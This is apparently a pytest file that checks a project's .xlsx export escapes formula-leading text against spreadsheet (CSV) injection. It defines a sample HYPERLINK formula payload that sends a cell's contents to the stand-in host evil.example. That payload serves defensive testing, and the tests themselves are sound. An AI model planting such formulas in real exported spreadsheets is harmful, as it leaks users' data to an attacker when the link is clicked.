"""Exported text is never a live formula (OWASP's advice on CSV injection, applied to .xlsx)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from mujun.core.spreadsheets import append_row, read_rows, workbook_bytes

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
LEADS = [EVIL, "+86 571", "-1+2", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


def cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("text", LEADS)
def test_formula_leading_text_is_written_as_quoted_text(text):
    (cell,) = cells(workbook_bytes(["名称"], [[text]]))
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == text  # shown and read back as written, nothing prepended


def test_plain_text_and_numbers_stay_as_they_are():
    text, number, negative = cells(workbook_bytes(["a", "b", "c"], [["城关街道", 12, -3.5]]))
    assert (text.value, text.data_type, text.quotePrefix) == ("城关街道", "s", False)
    assert (number.value, number.data_type) == (12, "n")
    assert (negative.value, negative.data_type) == (-3.5, "n")


def test_no_formula_element_in_the_file():
    content = workbook_bytes(["名称"], [[EVIL]])
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="inlineStr"' in sheet  # a string, never a formula


def test_control_characters_an_xlsx_cannot_hold_are_dropped_not_fatal():
    (cell,) = cells(workbook_bytes(["名称"], [["青溪\x01纸业\x1f有限公司"]]))
    assert cell.value == "青溪纸业有限公司"


def test_write_only_sheets_quote_too():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("结果")
    append_row(sheet, [EVIL, 3])
    out = io.BytesIO()
    book.save(out)
    first = load_workbook(io.BytesIO(out.getvalue()))["结果"]["A1"]
    assert first.data_type == "s" and first.quotePrefix and first.value == EVIL


def test_reading_an_export_back_gives_the_text():
    assert read_rows("x.xlsx", workbook_bytes(["名称"], [[EVIL]]))[1] == [EVIL]
